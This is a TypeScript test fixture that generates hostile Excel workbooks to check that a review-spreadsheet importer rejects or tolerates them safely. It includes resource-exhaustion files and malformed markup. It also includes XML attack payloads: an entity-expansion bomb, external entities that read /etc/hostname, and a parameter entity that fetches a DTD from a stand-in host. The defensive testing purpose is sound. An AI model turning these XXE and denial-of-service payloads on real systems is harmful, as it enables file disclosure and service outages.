import { type Expected, type HostileFile, hostile } from './hostile-file.ts'
import { REVIEW_HEADS } from './returns.ts'
import {
  sheetRow,
  type WorkbookMarkup,
  workbookOf,
  workbookParts,
  workbookWith,
  zipOf,
} from './sheet-markup.ts'

const HEADS = REVIEW_HEADS.split(',')
const ROWS = sheetRow(1, ...HEADS) + sheetRow(2, 'A1', '01/04/2014', '10/05/2025', 'PN1')
const PLAIN: WorkbookMarkup = { sheets: { Reviews: ROWS } }
const SHEET = 'xl/worksheets/sheet1.xml'
const unsafe: Expected = { outcome: 'refused', reason: 'workbook-unsafe' }
const tooLarge: Expected = { outcome: 'refused', reason: 'workbook-too-large' }
const damaged: Expected = { outcome: 'refused', reason: 'workbook-broken' }
const asIfNothing: Expected = {
  outcome: 'loaded',
  findings: [],
  rows: { Reviews: 1 },
  cells: { 'Reviews: 2 CHILD': 'A1', 'Reviews: 2 REVIEW_CODE': 'PN1' },
}
const withRows = (more: string, markup: Partial<WorkbookMarkup> = {}) =>
  workbookOf({ ...markup, sheets: { Reviews: ROWS + more } })
const opened = (doctype: string) => (content: string) => `<!DOCTYPE x [${doctype}]>${content}`

/** Workbooks made to exhaust the computer, to fetch something, or to say two things. */
export const workbookAttacks: readonly HostileFile[] = [
  hostile(
    'attack-shared-text-bomb.xlsx',
    'one long text that ten thousand cells refer to',
    () =>
      withRows(`<row>${'<c t="s"><v>0</v></c>'.repeat(10)}</row>`.repeat(1_000), {
        texts: `<si><t>${Array.from({ length: 6_000 }, (_, at) => at).join(' ')}</t></si>`,
      }),
    tooLarge,
  ),
  hostile(
    'attack-million-blank-rows.xlsx',
    'a million rows that are only formatted',
    () =>
      withRows(Array.from({ length: 1_000_000 }, (_, at) => `<row r="${at + 3}"><c s="1"/></row>`).join('')),
    asIfNothing,
  ),
  hostile(
    'attack-far-corner.xlsx',
    'a cell in the last place Excel has',
    () => withRows('<row r="1048576"><c r="XFD1048576"><v>7</v></c></row>'),
    {
      outcome: 'loaded with findings',
      findings: [
        'Reviews: column-unknown 1 in place 16384',
        ...HEADS.map((head) => `Reviews: value-missing 1048576 ${head}`),
      ],
      rows: { Reviews: 2 },
    },
  ),
  hostile(
    'attack-wide-rows.xlsx',
    'a cell far to the right in each of many rows',
    () => withRows('<row><c r="XFD1"><v>1</v></c></row>'.repeat(1_221)),
    tooLarge,
  ),
  hostile(
    'attack-one-wide-row.xlsx',
    'one cell far to the right, which would make every row as wide',
    () => withRows('<row r="3"><c r="XFD3"><v>1</v></c></row>' + '<row><c><v>1</v></c></row>'.repeat(1_300)),
    tooLarge,
  ),
  hostile(
    'attack-merged.xlsx',
    'more than a hundred thousand merged ranges',
    () =>
      workbookOf({
        ...PLAIN,
        after: `<mergeCells>${'<mergeCell ref="A3:B3"/>'.repeat(100_001)}</mergeCells>`,
      }),
    tooLarge,
  ),
  hostile(
    'attack-one-sheet-often.xlsx',
    'a thousand sheets that are all one and the same part of blank rows',
    () => {
      const names = Array.from(
        { length: 2_000 },
        (_, at) => `<sheet name="S${at}" sheetId="${at + 1}" r:id="rId1"/>`,
      )
      const blank = '<row><c s="1"/></row>'.repeat(500)
      return workbookWith({ sheets: { Reviews: blank } }, 'xl/workbook.xml', (content) =>
        content.replace(/<sheets>.*<\/sheets>/, `<sheets>${names.join('')}</sheets>`),
      )
    },
    unsafe,
  ),
  hostile(
    'attack-number-format.xlsx',
    'a number format of a hundred thousand brackets',
    () =>
      workbookOf({
        ...PLAIN,
        styles: `<numFmts><numFmt numFmtId="200" formatCode="${'['.repeat(100_000)}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>`,
      }),
    asIfNothing,
  ),
  hostile(
    'attack-deep-nesting.xlsx',
    'a hundred thousand elements in one another',
    () => withRows(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`),
    asIfNothing,
  ),
  hostile(
    'attack-attribute-flood.xlsx',
    'a row with a hundred thousand attributes',
    () => withRows(`<row r="3" ${Array.from({ length: 100_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`),
    asIfNothing,
  ),
  hostile(
    'attack-counts-that-lie.xlsx',
    'counts and dimensions of four thousand million',
    () =>
      workbookWith({ ...PLAIN, texts: '<si><t>x</t></si>' }, 'xl/sharedStrings.xml', (content) =>
        content.replace('<sst', '<sst count="4294967295" uniqueCount="4294967295"'),
      ),
    asIfNothing,
  ),
  hostile(
    'attack-entity-bomb.xlsx',
    'entities that multiply, in a sheet',
    () =>
      workbookWith(PLAIN, SHEET, (content) =>
        opened('<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">')(
          content.replace('A1</t>', '&b;</t>'),
        ),
      ),
    unsafe,
  ),
  hostile(
    'attack-outside-entity.xlsx',
    'an entity that would fetch a file, in the list of texts',
    () => workbookWith(PLAIN, 'xl/sharedStrings.xml', opened('<!ENTITY x SYSTEM "file:///etc/hostname">')),
    unsafe,
  ),
  hostile(
    'attack-parameter-entity.xlsx',
    'a parameter entity that would fetch a file, in the workbook itself',
    () => workbookWith(PLAIN, 'xl/workbook.xml', opened('<!ENTITY % x SYSTEM "http://a.example/x.dtd"> %x;')),
    unsafe,
  ),
  hostile(
    'attack-sheet-outside.xlsx',
    'a sheet that would be fetched from the computer',
    () =>
      workbookWith(PLAIN, 'xl/_rels/workbook.xml.rels', (content) =>
        content.replace(
          'Target="worksheets/sheet1.xml"',
          'Target="file:///etc/hostname" TargetMode="External"',
        ),
      ),
    { outcome: 'refused', reason: 'not-recognised' },
  ),
  hostile(
    'attack-cell-twice.xlsx',
    'a cell that stands twice with two values',
    () => withRows('<row r="3"><c r="A3"><v>1</v></c><c r="A3"><v>2</v></c></row>'),
    damaged,
  ),
  hostile(
    'attack-rows-backwards.xlsx',
    'rows out of order',
    () => withRows(sheetRow(9, 'A9') + sheetRow(8, 'A8')),
    damaged,
  ),
  hostile(
    'attack-row-beyond.xlsx',
    'a row behind the last of Excel',
    () => withRows(sheetRow(1_048_577, 'A9')),
    damaged,
  ),
  hostile(
    'attack-column-beyond.xlsx',
    'a cell behind the last column of Excel',
    () => withRows('<row r="3"><c r="XFE3"><v>1</v></c></row>'),
    damaged,
  ),
  hostile(
    'attack-text-not-there.xlsx',
    'a cell that refers to a text there is not',
    () => withRows('<row r="3"><c r="A3" t="s"><v>99</v></c></row>'),
    damaged,
  ),
  hostile(
    'attack-cut-markup.xlsx',
    'a sheet whose markup stops in the middle',
    () => workbookWith(PLAIN, SHEET, (content) => content.slice(0, content.length - 40)),
    damaged,
  ),
  hostile(
    'attack-no-workbook.xlsx',
    'a zip with a sheet and no workbook',
    () => zipOf(workbookParts(PLAIN).filter(({ path }) => path === SHEET)),
    damaged,
  ),
  hostile(
    'attack-bad-bytes.xlsx',
    'a sheet with bytes that are not text',
    () => {
      const parts = workbookParts(PLAIN)
      return zipOf(
        parts.map((part) =>
          part.path === SHEET
            ? {
                ...part,
                content: Buffer.from(String(part.content).replace('A1</t>', '\u00FF</t>'), 'latin1'),
              }
            : part,
        ),
      )
    },
    damaged,
  ),
]
